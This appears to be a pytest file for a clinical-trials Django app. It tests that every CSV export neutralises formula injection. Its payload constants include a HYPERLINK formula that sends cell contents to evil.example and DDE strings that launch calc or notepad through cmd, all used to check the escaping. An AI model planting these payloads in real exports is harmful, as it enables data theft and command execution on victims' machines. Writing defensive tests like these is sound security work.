"""Formula injection (OWASP "CSV Injection"): no cell of any CSV the product writes starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return unless it is a plain number; such cells are prefixed
with ``'`` and every cell is quoted."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection

from safety.models import AdverseEvent, CTCAETerm
from safety.services import adverse_event_record, adverse_event_update
from tests import test_access_matrix
from tests.factories import member
from tests.test_access_matrix import POLICY, ROLES, _url
from trials.csv_export import FORMULA_PREFIXES, csv_text, neutralise, sql_neutralised
from trials.models import Role

# Every role, every page of the access matrix, over the same data.
matrix_world = test_access_matrix.world

HOSTILE_TERM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_USER = "+mallory"
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C notepad'!'A1'",
    HOSTILE_TERM,
    "-",
    "+",
]
HARMLESS = ["", "Headache", "1+2", "a=b", "foo@example.org", "-7", "-0.5", "+3", "12", "Grade 3 - severe"]


def _is_dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and neutralise(cell) != cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_run_as_a_formula_gets_a_quote_in_front(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS)
def test_text_and_plain_numbers_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_none_is_an_empty_cell_and_numbers_stay_numbers():
    assert neutralise(None) == ""
    assert neutralise(-3) == "-3"


def test_every_cell_is_quoted_so_a_separator_inside_a_cell_cannot_start_a_new_cell():
    text = csv_text(["term", "grade"], [["=1+2;=3+4", 3], ["a,b", None]])
    assert text.splitlines() == ['"term","grade"', '"\'=1+2;=3+4","3"', '"a,b",""']


@pytest.mark.django_db
def test_the_database_side_rule_agrees_with_the_python_rule_on_every_input():
    values = [*PAYLOADS, *HARMLESS]
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {sql_neutralised('v')} FROM unnest(%s::text[]) WITH ORDINALITY AS t(v, n) ORDER BY n", [values]
        )  # noqa: S608
        database = [row[0] for row in cursor.fetchall()]
    assert database == [neutralise(v) for v in values]


@pytest.fixture
def hostile(matrix_world):
    """An AE whose term is a formula, corrected with a formula as the reason, by a user whose name
    starts with ``+``: what a malicious or careless entry can put into every export."""
    study, participant = matrix_world["study"], matrix_world["other"]  # "own" keeps one AE for the URLs
    author = member(HOSTILE_USER, study, Role.COORDINATOR, participant.site)
    headache = CTCAETerm.objects.get(version="5.0", term="Headache")
    ae = adverse_event_record(
        actor=author,
        participant=participant,
        verbatim_term=HOSTILE_TERM,
        ctcae_term=headache,
        grade=1,
        onset="2025-02-10",
        end="2025-02-11",
        outcome="RECOVERED/RESOLVED",
        action_taken="NOT APPLICABLE",
        causality_product="unlikely",
    )
    adverse_event_update(
        actor=author, adverse_event=ae, changes={"grade": 2}, reason=HOSTILE_REASON, expected_version=ae.version
    )
    assert AdverseEvent.objects.get(pk=ae.pk).verbatim_term == HOSTILE_TERM
    return matrix_world


def _csv_downloads(client, world) -> dict[str, list[list[str]]]:
    """Every CSV any role can download from any page of the matrix, parsed: url -> rows."""
    found: dict[str, list[list[str]]] = {}
    for role in ROLES:
        user = world["users"].get(role)
        if user is None:
            continue
        client.force_login(user)
        for name, policy in sorted(POLICY.items()):
            if policy.api or policy.method != "get":
                continue
            url = _url(name, policy, world, other_site=False)
            response = client.get(url)
            if response.status_code != 200 or not response["Content-Type"].startswith("text/csv"):
                continue
            body = b"".join(response.streaming_content) if response.streaming else response.content
            found[f"{role} {url}"] = list(csv.reader(io.StringIO(body.decode())))
    return found


def test_no_csv_download_has_a_cell_that_a_spreadsheet_would_run(client, hostile):
    downloads = _csv_downloads(client, hostile)
    assert any("audit.csv" in key for key in downloads), "the audit export is a CSV download"
    dangerous = [(key, cell) for key, rows in downloads.items() for row in rows for cell in row if _is_dangerous(cell)]
    assert dangerous == []
    audit = next(rows for key, rows in downloads.items() if key.startswith("data_manager") and "audit.csv" in key)
    cells = {cell for row in audit for cell in row}
    assert "'" + HOSTILE_REASON in cells
    assert "'" + HOSTILE_USER in cells
    assert any(HOSTILE_TERM.replace('"', '\\"') in cell and cell.startswith("{") for cell in cells)
